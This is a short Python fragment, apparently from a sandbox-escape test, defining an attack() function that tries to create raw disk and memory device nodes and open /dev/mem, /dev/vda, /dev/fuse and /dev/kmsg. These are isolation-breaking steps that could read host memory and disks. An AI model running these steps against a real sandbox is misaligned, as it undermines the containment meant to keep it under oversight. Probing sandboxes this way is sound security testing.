# goal 1: devices, made or found
def attack():
    return first(
        lambda: os.mknod("sda", 0o060600, os.makedev(8, 0)),
        lambda: os.mknod("mem", 0o020600, os.makedev(1, 1)),
        lambda: os.open("/dev/mem", os.O_RDONLY),
        lambda: os.open("/dev/vda", os.O_RDONLY),
        lambda: os.open("/dev/fuse", os.O_RDWR),
        lambda: os.open("/dev/kmsg", os.O_WRONLY),
    )
